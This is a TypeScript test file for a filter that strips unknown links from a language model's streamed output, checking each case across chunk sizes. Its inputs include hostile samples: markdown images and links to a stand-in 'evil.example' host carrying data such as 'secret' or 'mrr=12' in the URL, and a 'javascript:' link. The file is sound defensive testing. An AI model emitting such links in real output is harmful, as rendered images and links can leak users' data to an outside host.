import { describe, expect, it } from "vitest";
import { createLinkFilter } from "../../nodes/link-filter.ts";

const KNOWN = "https://workspace.example/docs/refunds";

/** In pieces of `size` characters; what was shown is never taken back. */
function shown(text: string, size: number): string {
  const filter = createLinkFilter([KNOWN]);
  let all = "";
  for (let at = 0; at < text.length; at += size) all += filter.push(text.slice(at, at + size));
  return all + filter.end();
}

describe("links in a model's text", () => {
  it.each([
    ["Refunds take 5 days [1]. Then [2][3] says", "Refunds take 5 days [1]. Then [2][3] says"],
    [`See [the policy](${KNOWN}) now`, `See [the policy](${KNOWN}) now`],
    [`See ${KNOWN}.`, `See ${KNOWN}.`],
    ["Click [here now](https://evil.example/?q=secret) please", "Click here now please"],
    ["![x](https://evil.example/leak?mrr=12)", "x"],
    [`![logo](${KNOWN})`, "logo"],
    ["[a](javascript:alert(1)) b", "a) b"],
    ["Visit https://evil.example/x, then go", "Visit (link removed), then go"],
    ["www.evil.example is nice", "(link removed) is nice"],
    ["[ref][r]\n\n[r]: https://evil.example", "[ref][r]\n\n[r]\\: (link removed)"],
    ["[r]: //evil.example/x", "[r]\\: //evil.example/x"],
    ["[see [the terms] here](//evil.example)", "[see [the terms] here] (//evil.example)"],
    ["[x](\n//evil.example)", "[x] (\n//evil.example)"],
    ["[![x](https://evil.example/i)](https://evil.example/l) end", "[x] ((link removed)) end"],
    ['<img src="https://evil.example/p.png"> 3 < 4', '&lt;img src="(link removed)"> 3 < 4'],
    ["<https://evil.example>", "&lt;(link removed)>"],
    ["[https://evil.example](https://evil.example) x", "(link removed) x"],
    ["an open [bracket stays", "an open [bracket stays"],
  ])("%j is shown as %j, in pieces of any size", (text, expected) => {
    for (const size of [1, 2, 3, 7, 1_000]) expect([size, shown(text, size)]).toEqual([size, expected]);
  });

  it("hold back no more than a word of plain text", () => {
    const filter = createLinkFilter([]);
    expect(filter.push("The MRR is 12 US")).toBe("The MRR is 12 ");
    expect(filter.push("D. Next")).toBe("USD. ");
    expect(filter.end()).toBe("Next");
  });
});
